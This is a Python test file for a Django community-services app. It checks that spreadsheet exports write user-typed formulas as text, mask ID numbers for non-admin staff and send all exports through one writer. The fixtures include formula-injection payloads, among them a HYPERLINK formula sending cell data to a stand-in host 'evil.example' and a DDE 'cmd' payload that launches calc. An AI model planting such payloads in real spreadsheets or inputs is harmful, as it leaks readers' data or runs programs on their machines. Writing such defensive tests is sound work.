"""Spreadsheets that leave Minhu: no live formula in any cell, masked ID numbers except in the audited,
administrator-only full export, and one writer (``lib.xlsx``) for all of them so neither rule can be skipped.

A resident controls the text of a case through the public form, staff control names and notes: whatever they
typed comes back as the same text in Excel/WPS, never as a formula (``=HYPERLINK(…)`` sends the reader's data
off-site, ``=cmd|…`` runs a program in old Excel).
"""

import datetime
import io
import pathlib
import re
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from audit.models import AuditEntry
from audit.services import record
from cases.actions.intake import case_create
from lib import idcard
from people import services as people_services
from volunteers import services as volunteer_services
from volunteers.tests.factories import at, organisation, volunteer

ROOT = pathlib.Path(__file__).resolve().parent.parent
PLANTED = '=HYPERLINK("https://evil.example/?d="&A2,"点击查看")'


def cells(response) -> list:
    """Every cell of the first sheet (header row included), as openpyxl loads it."""
    assert response.status_code == 200, response.status_code
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_no_formula(all_cells, planted: str) -> None:
    assert not [c.coordinate for c in all_cells if c.data_type == "f"], "a cell was written as a formula"
    texts = [c.value for c in all_cells if isinstance(c.value, str)]
    assert "'" + planted in texts  # what was typed, shown as text
    assert planted not in texts


@pytest.fixture
def planted_case(world, shipped_data):
    """A case raised through the public form (no account) whose text is a formula."""
    return case_create(
        title=PLANTED,
        description=PLANTED,
        region=world.penglai_grid,
        channel="web",
        category="repair",
        reporter_name="张阿姨",
        reporter_phone="13812345678",
    )[0]


def test_case_export_writes_a_residents_formula_as_text(planted_case, users, client_for):
    response = client_for(users["staff"]).get(reverse("cases:export"))
    assert_no_formula(cells(response), PLANTED)


def test_people_export_writes_a_note_formula_as_text(world, users, client_for):
    admin = users["admin"]
    address = people_services.address_get_or_create(region=world.penglai, road="蓬莱路", lane="1", number="1", by=admin)
    household = people_services.household_for_address(address=address, by=admin, name="王家")
    for n, note in enumerate(["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", PLANTED]):
        people_services.resident_create(
            region=world.penglai,
            name=f"居民{n}",
            id_number=idcard.make("310101", datetime.date(1950, 1, 1), n + 1),
            phone=f"1390000000{n}",
            household=household,
            note=note,
            by=admin,
        )
    all_cells = cells(client_for(users["staff"]).get(reverse("people:export")))
    assert_no_formula(all_cells, PLANTED)
    texts = {c.value for c in all_cells if isinstance(c.value, str)}
    assert {"'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)"} <= texts


def test_audit_export_writes_an_actor_name_formula_as_text(world, users, client_for):
    staff = users["staff"]
    staff.display_name = PLANTED
    staff.save(update_fields=["display_name"])
    record(actor=staff, action="people.resident.view", kind=AuditEntry.Kind.VIEW, region=world.penglai)
    all_cells = cells(client_for(staff).get(reverse("audit:entry_export")))
    assert_no_formula(all_cells, PLANTED)


# Masked ID numbers ------------------------------------------------------------------------------


@pytest.fixture
def ledger_volunteer(world):
    v = volunteer(world)
    v.set_id_number(idcard.make("310101", datetime.date(1980, 5, 1), 3))
    v.save()
    day = datetime.date(2022, 2, 24)
    r = volunteer_services.record_add_manual(
        volunteer=v,
        activity="服务日",
        region=world.laoximen,
        date=day,
        place="上海文庙门口",
        served="旧改居民",
        content="法律咨询",
        started_at=at(day, "13:00"),
        ended_at=at(day, "16:00"),
        hours=Decimal("3"),
        by=world.users["staff"],
        organisation=organisation(world),
    )
    volunteer_services.record_verify(record=r, by=world.users["staff"])
    return v


def ledger_id_numbers(response) -> list[str]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [row[2] for row in sheet.iter_rows(min_row=2, values_only=True)]


def test_ledger_export_gives_non_admin_staff_masked_id_numbers(ledger_volunteer, users, client_for):
    response = client_for(users["staff"]).get(reverse("volunteers:ledger"), {"export": "xlsx"})
    assert response.status_code == 200
    assert ledger_id_numbers(response) == [ledger_volunteer.id_number_masked]
    assert ledger_volunteer.id_number not in ledger_id_numbers(response)
    # asking for the full sheet does not help
    full = client_for(users["staff"]).get(reverse("volunteers:ledger"), {"export": "xlsx", "full": "1"})
    assert full.status_code == 403


def test_ledger_full_export_is_an_audited_administrator_export(ledger_volunteer, users, client_for):
    response = client_for(users["admin"]).get(reverse("volunteers:ledger"), {"export": "xlsx", "full": "1"})
    assert ledger_id_numbers(response) == [ledger_volunteer.id_number]
    entry = AuditEntry.objects.get(action="volunteers.records.export", actor=users["admin"])
    assert entry.kind == AuditEntry.Kind.EXPORT and entry.detail["完整身份证号"] is True
    masked = client_for(users["admin"]).get(reverse("volunteers:ledger"), {"export": "xlsx"})
    assert ledger_id_numbers(masked) == [ledger_volunteer.id_number_masked]


# One writer -------------------------------------------------------------------------------------

WRITERS = re.compile(r"\bWorkbook\s*\(|csv\.(writer|DictWriter)\s*\(|\.to_(excel|csv)\s*\(|xlsxwriter")


def test_every_spreadsheet_export_goes_through_lib_xlsx():
    """A new export that builds its own workbook or CSV would skip ``safe_cell``: name it here or route it
    through ``lib.xlsx``. Tests and benchmarks (which build input files) are not exports."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        rel = path.relative_to(ROOT).as_posix()
        if rel.startswith((".venv/", "bench/", "var/")) or "/tests/" in f"/{rel}" or "/migrations/" in rel:
            continue
        if rel == "lib/xlsx.py":
            continue
        if WRITERS.search(path.read_text(encoding="utf-8")):
            offenders.append(rel)
    assert offenders == []
